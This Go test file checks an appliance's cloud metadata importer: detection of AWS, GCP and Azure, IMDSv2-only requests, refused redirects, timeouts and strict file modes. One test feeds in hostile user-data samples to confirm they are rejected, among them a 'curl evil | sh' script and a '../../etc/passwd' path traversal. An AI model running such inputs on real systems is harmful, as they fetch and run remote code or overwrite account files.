package imds_test

import (
	"context"
	"encoding/json"
	"github.com/supernode-appliance/appliance/tests/testenv"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/supernode-appliance/appliance/image/imds"
	"github.com/supernode-appliance/appliance/image/imds/imdstest"
)

var testAllow = []string{"supernode.*", "supernode-xdp.*", "network.network.*"}

func testAllowlist() ([]string, error) { return testAllow, nil }

// sysRoot writes a fake /sys/class/dmi/id for cloud c.
func sysRoot(t *testing.T, c imdstest.Cloud) string {
	t.Helper()
	root := t.TempDir()
	dir := filepath.Join(root, imds.DMIDir)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, v := range imdstest.DMI(c) {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(v), 0o444); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

func doc(t testing.TB, creds ...[2]string) []byte {
	type e struct {
		Name string `json:"name"`
		Text string `json:"text"`
	}
	var l []e
	for _, c := range creds {
		l = append(l, e{c[0], c[1]})
	}
	b, err := json.Marshal(map[string]any{"systemd.credentials": l})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

type run struct {
	fake  *imdstest.Fake
	store string
	res   imds.Result
	err   error
	took  time.Duration
}

func runAgainst(t *testing.T, f *imdstest.Fake, dmi imdstest.Cloud, timeout time.Duration) run {
	t.Helper()
	srv := httptest.NewServer(f)
	t.Cleanup(srv.Close)
	store := filepath.Join(t.TempDir(), "credstore")
	start := time.Now()
	res, err := imds.Run(context.Background(), imds.Config{
		SysRoot: sysRoot(t, dmi), BaseURL: srv.URL, CredStore: store,
		ShadowDirs: []string{}, Allowlist: testAllowlist, Timeout: timeout,
	})
	return run{f, store, res, err, time.Since(start)}
}

func TestImportEachCloud(t *testing.T) {
	for _, c := range []imdstest.Cloud{imdstest.AWS, imdstest.GCP, imdstest.Azure} {
		t.Run(string(c), func(t *testing.T) {
			ud := doc(t, [2]string{"supernode.conf", "max_peers = 1000\n"}, [2]string{"supernode-xdp.allow_bogons", "true"})
			r := runAgainst(t, &imdstest.Fake{Cloud: c, UserData: ud}, c, 5*time.Second)
			if r.err != nil {
				t.Fatal(r.err)
			}
			got := testenv.DirFiles(t, r.store)
			want := map[string]string{"supernode.conf": "max_peers = 1000\n", "supernode-xdp.allow_bogons": "true"}
			if len(got) != len(want) || got["supernode.conf"] != want["supernode.conf"] || got["supernode-xdp.allow_bogons"] != "true" {
				t.Fatalf("store = %q, want %q", got, want)
			}
			st, _ := os.Stat(r.store)
			if st.Mode().Perm() != 0o700 {
				t.Errorf("store mode %v, want 0700", st.Mode().Perm())
			}
			fst, _ := os.Stat(filepath.Join(r.store, "supernode.conf"))
			if fst.Mode().Perm() != 0o400 {
				t.Errorf("credential mode %v, want 0400", fst.Mode().Perm())
			}
			t.Logf("requests: %q", r.fake.Requests())
		})
	}
}

func TestAWSUsesIMDSv2Only(t *testing.T) {
	r := runAgainst(t, &imdstest.Fake{Cloud: imdstest.AWS, UserData: doc(t, [2]string{"supernode.port", "3478"})}, imdstest.AWS, 5*time.Second)
	if r.err != nil {
		t.Fatal(r.err)
	}
	want := []string{"PUT /latest/api/token", "GET /latest/user-data"}
	if got := r.fake.Requests(); strings.Join(got, ",") != strings.Join(want, ",") {
		t.Fatalf("requests %q, want %q", got, want)
	}
}

func TestNoUserDataIsNothingToDo(t *testing.T) {
	for _, c := range []imdstest.Cloud{imdstest.AWS, imdstest.GCP, imdstest.Azure} {
		r := runAgainst(t, &imdstest.Fake{Cloud: c}, c, 5*time.Second)
		if r.err != nil || !r.res.NoData {
			t.Errorf("%s: err %v NoData %v, want nil true", c, r.err, r.res.NoData)
		}
		if n := len(testenv.DirFiles(t, r.store)); n != 0 {
			t.Errorf("%s: %d files written", c, n)
		}
	}
}

// TestNotACloudMakesNoRequest: bare metal, an on-premises Hyper-V guest
// (Microsoft's vendor string without Azure's asset tag): exit quietly,
// and the metadata address never sees a packet.
func TestNotACloudMakesNoRequest(t *testing.T) {
	hyperv := map[string]string{"sys_vendor": "Microsoft Corporation\n", "product_name": "Virtual Machine\n", "chassis_asset_tag": "1234-5678\n"}
	for name, dmi := range map[string]map[string]string{"bare metal": imdstest.DMI(""), "hyper-v": hyperv, "empty": {}} {
		f := &imdstest.Fake{Cloud: imdstest.AWS, UserData: doc(t, [2]string{"supernode.port", "1"})}
		srv := httptest.NewServer(f)
		root := t.TempDir()
		dir := filepath.Join(root, imds.DMIDir)
		os.MkdirAll(dir, 0o755)
		for k, v := range dmi {
			os.WriteFile(filepath.Join(dir, k), []byte(v), 0o444)
		}
		store := filepath.Join(t.TempDir(), "credstore")
		res, err := imds.Run(context.Background(), imds.Config{SysRoot: root, BaseURL: srv.URL, CredStore: store, ShadowDirs: []string{}, Allowlist: testAllowlist})
		srv.Close()
		if err != nil || res.Platform != imds.None {
			t.Errorf("%s: platform %v err %v, want none, nil", name, res.Platform, err)
		}
		if reqs := f.Requests(); len(reqs) != 0 {
			t.Errorf("%s: metadata service saw %q, want nothing", name, reqs)
		}
		if _, err := os.Stat(store); !os.IsNotExist(err) {
			t.Errorf("%s: credential store created", name)
		}
	}
}

// TestHostileUserDataImportsNothing: each bad document is refused whole
// with one sentence naming the problem, and the store stays empty.
func TestHostileUserDataImportsNothing(t *testing.T) {
	good := [2]string{"supernode.conf", "max_peers = 1000\n"}
	cases := []struct {
		name string
		ud   []byte
		want string
	}{
		{"oversized", append(doc(t, good), make([]byte, imds.DefaultMaxUserData)...), "limit"},
		{"outside allowlist", doc(t, good, [2]string{"systemd.extra-unit.x.service", "[Service]\nExecStart=/bin/sh\n"}), "not on the credential allowlist"},
		{"path traversal", doc(t, good, [2]string{"../../etc/passwd", "root::0:0::/:/bin/sh"}), "not a plain file name"},
		{"traversal inside a glob", doc(t, [2]string{"supernode.x/../../../etc/passwd", "x"}), "not a plain file name"},
		{"dot dot", doc(t, [2]string{"..", "x"}), "not a plain file name"},
		{"journal forwarding", doc(t, [2]string{"journal.forward_to_socket", "10.0.0.1:9"}), "not on the credential allowlist"},
		{"non-JSON", []byte("#!/bin/bash\ncurl evil | sh\n"), "not a JSON object"},
		{"cloud-config", []byte("#cloud-config\nusers: []\n"), "not a JSON object"},
		{"broken JSON", []byte(`{"systemd.credentials": [{"name": "supernode.conf", "text": `), "not a valid credentials document"},
		{"unknown field", []byte(`{"systemd.credentials": [{"name": "supernode.conf", "text": "a", "mode": "0777"}]}`), "unknown field"},
		{"no list", []byte(`{"hostname": "x"}`), "not a valid credentials document"},
		{"value too large", doc(t, [2]string{"supernode.conf", strings.Repeat("#", imds.DefaultMaxValue+1)}), "more than the limit"},
		{"both text and data", []byte(`{"systemd.credentials": [{"name": "supernode.conf", "text": "a", "data": "YQ=="}]}`), "exactly one"},
		{"encrypted", []byte(`{"systemd.credentials": [{"name": "supernode.conf", "encrypted": "YQ=="}]}`), "cannot decrypt"},
		{"bad base64", []byte(`{"systemd.credentials": [{"name": "supernode.conf", "data": "!!"}]}`), "not base64"},
		{"duplicate", doc(t, good, good), "appears twice"},
		{"network from IMDS", doc(t, [2]string{"network.network.50-x", "[Match]\n"}), "SMBIOS or fw_cfg"},
		{"trailing", append(doc(t, good), []byte(`{"systemd.credentials":[]}`)...), "trailing"},
	}
	for _, c := range cases {
		for _, cloud := range []imdstest.Cloud{imdstest.AWS, imdstest.Azure} {
			t.Run(c.name+"/"+string(cloud), func(t *testing.T) {
				r := runAgainst(t, &imdstest.Fake{Cloud: cloud, UserData: c.ud}, cloud, 5*time.Second)
				if r.err == nil || !strings.Contains(r.err.Error(), c.want) {
					t.Fatalf("err = %v, want one containing %q", r.err, c.want)
				}
				if strings.Contains(r.err.Error(), "\n") {
					t.Errorf("error is not one line: %q", r.err)
				}
				if got := testenv.DirFiles(t, r.store); len(got) != 0 {
					t.Errorf("store = %q, want empty", got)
				}
			})
		}
	}
}

// TestRedirectNotFollowed: the "metadata service" sends us elsewhere; we
// do not go, and nothing is imported.
func TestRedirectNotFollowed(t *testing.T) {
	elsewhere := &imdstest.Fake{Cloud: imdstest.GCP, UserData: doc(t, [2]string{"supernode.conf", "x"})}
	esrv := httptest.NewServer(elsewhere)
	defer esrv.Close()
	for _, c := range []imdstest.Cloud{imdstest.AWS, imdstest.GCP, imdstest.Azure} {
		r := runAgainst(t, &imdstest.Fake{Cloud: c, Redirect: esrv.URL + "/computeMetadata/v1/instance/attributes/user-data"}, c, 5*time.Second)
		if r.err == nil || !strings.Contains(r.err.Error(), "refused redirect") {
			t.Errorf("%s: err = %v, want a refused redirect", c, r.err)
		}
		if len(testenv.DirFiles(t, r.store)) != 0 {
			t.Errorf("%s: something was imported", c)
		}
	}
	if reqs := elsewhere.Requests(); len(reqs) != 0 {
		t.Fatalf("redirect target saw %q", reqs)
	}
}

// TestSlowServerTimesOut: a service that accepts and never answers costs
// the boot at most the configured total time.
func TestSlowServerTimesOut(t *testing.T) {
	r := runAgainst(t, &imdstest.Fake{Cloud: imdstest.GCP, UserData: doc(t), Delay: time.Minute}, imdstest.GCP, 1500*time.Millisecond)
	if r.err == nil || !strings.Contains(r.err.Error(), "no complete answer within") {
		t.Fatalf("err = %v, want a timeout", r.err)
	}
	if r.took > 4*time.Second {
		t.Fatalf("took %v, want about 1.5s", r.took)
	}
}

// TestWaitsForTheNetwork: nothing waits for network-online on the
// appliance, so the first attempts may find no route or no listener; they
// are retried within the deadline.
func TestWaitsForTheNetwork(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	ln.Close()
	f := &imdstest.Fake{Cloud: imdstest.GCP, UserData: doc(t, [2]string{"supernode.port", "3479"})}
	go func() {
		time.Sleep(1200 * time.Millisecond)
		ln, err := net.Listen("tcp", addr)
		if err != nil {
			return
		}
		http.Serve(ln, f)
	}()
	store := filepath.Join(t.TempDir(), "credstore")
	_, err = imds.Run(context.Background(), imds.Config{SysRoot: sysRoot(t, imdstest.GCP), BaseURL: "http://" + addr, CredStore: store, ShadowDirs: []string{}, Allowlist: testAllowlist, Timeout: 5 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	if got := testenv.DirFiles(t, store)["supernode.port"]; got != "3479" {
		t.Fatalf("supernode.port = %q", got)
	}
}

// TestNoAllowlistNoRequest: without an allowlist (a profile that lacks the
// control) nothing is asked and nothing written.
func TestNoAllowlistNoRequest(t *testing.T) {
	for _, al := range []func() ([]string, error){nil, func() ([]string, error) { return nil, nil }, imds.Allowlist} {
		if al != nil {
			if l, err := al(); err == nil && len(l) > 0 {
				continue // the profile has it: covered by TestAllowlistFromProfile
			}
		}
		f := &imdstest.Fake{Cloud: imdstest.AWS, UserData: doc(t, [2]string{"supernode.port", "1"})}
		srv := httptest.NewServer(f)
		store := filepath.Join(t.TempDir(), "credstore")
		_, err := imds.Run(context.Background(), imds.Config{SysRoot: sysRoot(t, imdstest.AWS), BaseURL: srv.URL, CredStore: store, ShadowDirs: []string{}, Allowlist: al})
		srv.Close()
		if err == nil || len(f.Requests()) != 0 {
			t.Errorf("err %v, requests %q; want an error and no request", err, f.Requests())
		}
	}
}
